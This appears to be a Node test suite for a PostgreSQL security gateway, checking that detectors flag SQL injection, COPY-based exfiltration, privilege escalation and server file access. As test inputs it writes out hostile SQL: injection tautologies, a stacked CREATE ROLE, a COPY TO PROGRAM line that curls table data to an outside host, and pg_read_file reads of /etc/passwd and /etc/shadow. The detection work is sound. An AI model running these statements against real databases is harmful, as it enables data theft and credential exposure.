import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import { setImmediate as tick } from 'node:timers/promises';
import { loadSqlParser } from '../../../src/audit/classify/pg-parser.js';
import { DetectionConfigSchema } from '../../../src/config/config-schema.js';
import type { AlertCandidate } from '../../../src/detect/alert-candidate.js';
import type { DetectionInput, StatementObservation } from '../../../src/detect/detection-input.js';
import type { Detector } from '../../../src/detect/detector.js';
import { AdminMembership } from '../../../src/detect/statement/admin-membership.js';
import { CopyOutDetector } from '../../../src/detect/statement/copy-out-detector.js';
import { EscalationDetector } from '../../../src/detect/statement/escalation-detector.js';
import { SecurityDefinerDetector } from '../../../src/detect/statement/security-definer-detector.js';
import { SensitiveSelectDetector } from '../../../src/detect/statement/sensitive-select-detector.js';
import { ServerAccessDetector } from '../../../src/detect/statement/server-access-detector.js';
import { SqlInjectionDetector } from '../../../src/detect/statement/sql-injection-detector.js';
import { StatementAnalyzer } from '../../../src/detect/statement/statement-analyzer.js';
import { VolumeBaselines } from '../../../src/detect/statement/volume-baselines.js';
import {
  LEARNING_SESSIONS,
  VolumeDetector,
} from '../../../src/detect/statement/volume-detector.js';
import type { SecurityEvent } from '../../../src/gateway/security-events.js';

const T0 = Date.parse('2024-05-01T10:00:00Z');

function statement(
  sql: string,
  extra: Partial<StatementObservation> = {},
): Extract<DetectionInput, { kind: 'statement' }> {
  return {
    kind: 'statement',
    time: T0,
    statement: {
      session: 's1',
      address: '192.0.2.10',
      user: 'app',
      database: 'shop',
      applicationName: 'web',
      sql,
      protocol: 'simple',
      command: 'SELECT',
      rows: 0,
      bytes: 0,
      sqlstate: undefined,
      ...extra,
    },
  };
}

const failed = (sql: string, sqlstate: string, extra: Partial<StatementObservation> = {}) =>
  statement(sql, { command: undefined, sqlstate, ...extra });

const ended = (session = 's1', user = 'app', rows = 0, statements = 1): DetectionInput => ({
  kind: 'session-end',
  time: T0,
  summary: {
    session,
    address: '192.0.2.10',
    user,
    database: 'shop',
    applicationName: 'web',
    rows,
    bytes: rows * 50,
    statements,
  },
});

const event = (e: Partial<SecurityEvent> & Pick<SecurityEvent, 'event'>): DetectionInput => ({
  kind: 'event',
  time: T0,
  event: { address: '192.0.2.10', user: 'app', session: 's1', ...e },
});

const types = (alerts: readonly AlertCandidate[]): string[] => alerts.map((a) => a.type);

describe('statement detectors', () => {
  before(() => loadSqlParser());

  describe('sql-injection', () => {
    it('raises once per session and shape, keyed by role and address, with the statement as evidence', () => {
      const detector = new SqlInjectionDetector(new StatementAnalyzer());
      const attack = "SELECT id FROM users WHERE name = '' OR '1'='1'";
      const [alert, ...more] = detector.observe(statement(attack));
      assert.equal(more.length, 0);
      assert.equal(alert?.type, 'sql-injection');
      assert.equal(alert?.key, 'app@192.0.2.10');
      assert.equal(alert?.subject.session, 's1');
      assert.match(alert?.summary ?? '', /tautology/);
      assert.match(alert?.evidence[0]?.detail ?? '', /OR '1'='1'/);
      assert.deepEqual(detector.observe(statement(attack)), [], 'same session, same shape');
      assert.equal(
        detector.observe(
          statement("SELECT id FROM users WHERE name = '' AND 1=CAST(version() AS int)"),
        ).length,
        1,
        'a new shape',
      );
      detector.observe(ended());
      assert.equal(detector.observe(statement(attack)).length, 1, 'a new session');
      assert.deepEqual(detector.observe(statement('SELECT id FROM users WHERE name = $1')), []);
    });

    it('never puts a password in the evidence', () => {
      const detector = new SqlInjectionDetector(new StatementAnalyzer());
      const [alert] = detector.observe(
        statement(
          "SELECT 1 FROM users WHERE name = ''; CREATE ROLE x LOGIN PASSWORD 'Hunter2-Secret'--'",
        ),
      );
      assert.match(alert?.summary ?? '', /stacked-after-quote/);
      const detail = alert?.evidence[0]?.detail ?? '';
      assert.match(detail, /CREATE ROLE x LOGIN PASSWORD '<redacted>'/);
      assert.doesNotMatch(detail, /Hunter2/);
    });
  });

  describe('exfiltration.copy-out', () => {
    const detector = (): Detector => new CopyOutDetector(new StatementAnalyzer(), 1000);

    it('raises for COPY TO PROGRAM whatever the outcome', () => {
      const [alert] = detector().observe(
        failed("COPY cards TO PROGRAM 'curl -T - http://x'", '42501'),
      );
      assert.equal(alert?.type, 'exfiltration.copy-out');
      assert.match(alert?.summary ?? '', /COPY public\.cards TO PROGRAM .*refused: 42501/);
    });

    it('raises for a COPY TO STDOUT of copyRows rows or more, not fewer, not COPY FROM STDIN', () => {
      const d = detector();
      const out = { command: 'COPY', rows: 1000, bytes: 50_000 };
      assert.deepEqual(d.observe(statement('COPY cards TO STDOUT', { ...out, rows: 999 })), []);
      assert.deepEqual(
        d.observe(statement('COPY cards FROM STDIN', { command: 'COPY', rows: 5000 })),
        [],
      );
      const [alert] = d.observe(statement('COPY cards TO STDOUT', out));
      assert.match(alert?.summary ?? '', /COPY public\.cards TO STDOUT returned 1000 rows/);
      assert.deepEqual(d.observe(statement('COPY cards TO STDOUT', out)), [], 'once per session');
      assert.equal(
        d.observe(statement('COPY (SELECT * FROM cards) TO STDOUT', { ...out, session: 's2' }))
          .length,
        1,
      );
    });
  });

  describe('exfiltration.sensitive-select', () => {
    const detector = (): Detector =>
      new SensitiveSelectDetector(new StatementAnalyzer(['cards', 'hr.salaries']), [
        'cards',
        'hr.salaries',
      ]);

    it('raises for SELECT * or t.* on a sensitive table the server ran', () => {
      const d = detector();
      assert.deepEqual(types(d.observe(statement('SELECT * FROM cards WHERE id = 1'))), [
        'exfiltration.sensitive-select',
      ]);
      assert.deepEqual(d.observe(statement('TABLE cards')), [], 'once per session and table');
      const [alert] = d.observe(
        statement('SELECT s.* FROM hr.salaries s JOIN staff ON staff.id = s.id'),
      );
      assert.equal(alert?.key, 'app:hr.salaries');
    });

    it("does not raise for named columns, another table's star, a refused statement, another schema", () => {
      const d = detector();
      assert.deepEqual(d.observe(statement('SELECT number FROM cards')), []);
      assert.deepEqual(
        d.observe(statement('SELECT u.* FROM users u JOIN cards c ON c.user_id = u.id')),
        [],
      );
      assert.deepEqual(d.observe(failed('SELECT * FROM cards', '42501')), []);
      assert.deepEqual(d.observe(statement('SELECT * FROM archive.cards')), []);
      assert.deepEqual(
        d.observe(statement('WITH cards AS (SELECT 1 AS a) SELECT * FROM cards')),
        [],
      );
    });
  });

  describe('privilege-escalation.attempt', () => {
    it('raises for a guard refusal, and not again for the statement the guard made fail', () => {
      const d = new EscalationDetector(new StatementAnalyzer());
      const [alert] = d.observe(
        event({
          event: 'guard.escalation',
          detail: 'granting pg_execute_server_program to "app" is refused',
          guard: {
            reason: 'privileged-role',
            statement: 'GRANT ROLE',
            within: 'statement',
            protocol: 'simple',
          },
        }),
      );
      assert.equal(alert?.type, 'privilege-escalation.attempt');
      assert.equal(alert?.key, 'app');
      assert.equal(alert?.evidence[0]?.event, 'guard.escalation');
      assert.deepEqual(d.observe(failed('GRANT pg_execute_server_program TO app', '42501')), []);
      // A second attempt the server refuses on its own is news again.
      assert.equal(d.observe(failed('ALTER ROLE app SUPERUSER', '42501')).length, 1);
    });

    it('raises for a role statement the server ran, says so, and ignores harmless ones', () => {
      const d = new EscalationDetector(new StatementAnalyzer());
      const [alert] = d.observe(
        statement('GRANT pg_read_all_data TO etl', { command: 'GRANT ROLE' }),
      );
      assert.match(alert?.summary ?? '', /GRANT pg_read_all_data TO etl by app: succeeded/);
      assert.deepEqual(d.observe(statement('GRANT SELECT ON orders TO etl')), []);
      assert.deepEqual(d.observe(statement('ALTER ROLE etl NOSUPERUSER')), []);
      assert.deepEqual(d.observe(failed('ALTER ROLE etl SUPERUSER', '42704')), []);
      assert.equal(d.observe(failed('ALTER ROLE pgwarden_admin RENAME TO x', '42501')).length, 1);
    });
  });

  describe('privilege-escalation.security-definer', () => {
    const definer = 'CREATE FUNCTION f() RETURNS int SECURITY DEFINER LANGUAGE sql AS $$SELECT 1$$';

    it('raises for a non-administrator once the membership answer is in, with the next input', async () => {
      const d = new SecurityDefinerDetector(
        new StatementAnalyzer(),
        new AdminMembership(undefined),
      );
      assert.deepEqual(d.observe(statement(definer, { command: 'CREATE FUNCTION' })), []);
      await tick();
      const [alert] = d.observe(ended());
      assert.equal(alert?.type, 'privilege-escalation.security-definer');
      assert.equal(alert?.key, 'app:f');
      // Known now: at once.
      assert.equal(d.observe(statement(`${definer.replace(' f(', ' g(')}`)).length, 1);
    });

    it("raises a late verdict at once through the engine's hook when it has one", async () => {
      const d = new SecurityDefinerDetector(
        new StatementAnalyzer(),
        new AdminMembership(undefined),
      );
      const raised: AlertCandidate[] = [];
      d.attach((candidate) => raised.push(candidate));
      assert.deepEqual(d.observe(statement(definer)), []);
      await tick();
      assert.deepEqual(types(raised), ['privilege-escalation.security-definer']);
      assert.deepEqual(d.observe(ended()), [], 'not again with the next input');
    });

    it('ignores SECURITY INVOKER, and a definer function the server refused to create', async () => {
      const d = new SecurityDefinerDetector(
        new StatementAnalyzer(),
        new AdminMembership(undefined),
      );
      d.observe(statement(definer.replace('DEFINER', 'INVOKER')));
      d.observe(failed(definer, '42501'));
      await tick();
      assert.deepEqual(d.observe(ended()), []);
    });
  });

  describe('privilege-escalation.server-access', () => {
    it('raises for each reach once per session, run or refused', () => {
      const d = new ServerAccessDetector(new StatementAnalyzer());
      const [alert] = d.observe(failed("SELECT pg_read_file('/etc/passwd')", '42501'));
      assert.equal(alert?.type, 'privilege-escalation.server-access');
      assert.match(alert?.summary ?? '', /pg_read_file\(\).*refused \(42501\)/);
      assert.deepEqual(d.observe(failed("SELECT pg_read_file('/etc/shadow')", '42501')), []);
      assert.equal(d.observe(failed("COPY t FROM PROGRAM 'id'", '42501')).length, 1);
      assert.equal(d.observe(failed("SELECT lo_import('/etc/hosts')", '42501')).length, 1);
      assert.equal(d.observe(failed('CREATE EXTENSION file_fdw', '42501')).length, 1);
      assert.equal(d.observe(failed("COPY t TO '/tmp/t.csv'", '42501')).length, 1);
      assert.deepEqual(d.observe(statement('CREATE EXTENSION pgcrypto')), []);
      assert.deepEqual(
        d.observe(statement("COPY t TO PROGRAM 'gzip > /tmp/x'")),
        [],
        'copy-out, not this',
      );
    });
  });

  describe('exfiltration.volume', () => {
    const config = DetectionConfigSchema.parse({
      exfiltration: { minRows: 1000, factor: 10 },
    }).exfiltration;

    async function learned(sessions: number): Promise<VolumeDetector> {
      const d = new VolumeDetector(config, await VolumeBaselines.load(undefined, () => undefined));
      for (let i = 0; i < sessions; i++) {
        d.observe(statement('SELECT * FROM orders', { session: `l${i}`, rows: 50 }));
        d.observe(ended(`l${i}`, 'app', 50));
      }
      return d;
    }

    it('stays quiet while a role is learned', async () => {
      const d = await learned(LEARNING_SESSIONS - 1);
      assert.deepEqual(d.observe(statement('SELECT * FROM orders', { rows: 1_000_000 })), []);
    });

    it('raises once when a session passes factor × the usual rows (and minRows)', async () => {
      const d = await learned(LEARNING_SESSIONS);
      assert.deepEqual(d.observe(statement('SELECT * FROM orders', { rows: 600 })), []);
      const [alert] = d.observe(statement('SELECT * FROM orders', { rows: 600 }));
      assert.equal(alert?.type, 'exfiltration.volume');
      assert.equal(alert?.key, 'app');
      assert.match(alert?.summary ?? '', /1200 rows.*usually 50 rows/);
      assert.deepEqual(d.observe(statement('SELECT * FROM orders', { rows: 5000 })), []);
      assert.deepEqual(
        d.observe(statement('SELECT * FROM orders', { user: 'other', session: 's9', rows: 5000 })),
        [],
        'another role has no baseline',
      );
    });

    it('raises on bytes too, and learns no session that raised', async () => {
      const d = await learned(LEARNING_SESSIONS);
      const [alert] = d.observe(statement('SELECT doc FROM files', { rows: 10, bytes: 2_000_000 }));
      assert.equal(alert?.type, 'exfiltration.volume');
      d.observe(ended('s1', 'app', 10));
      // Had the big session been learned, 600 rows would no longer pass.
      assert.equal(
        d.observe(statement('SELECT * FROM orders', { session: 's2', rows: 1200 })).length,
        1,
      );
    });
  });
});
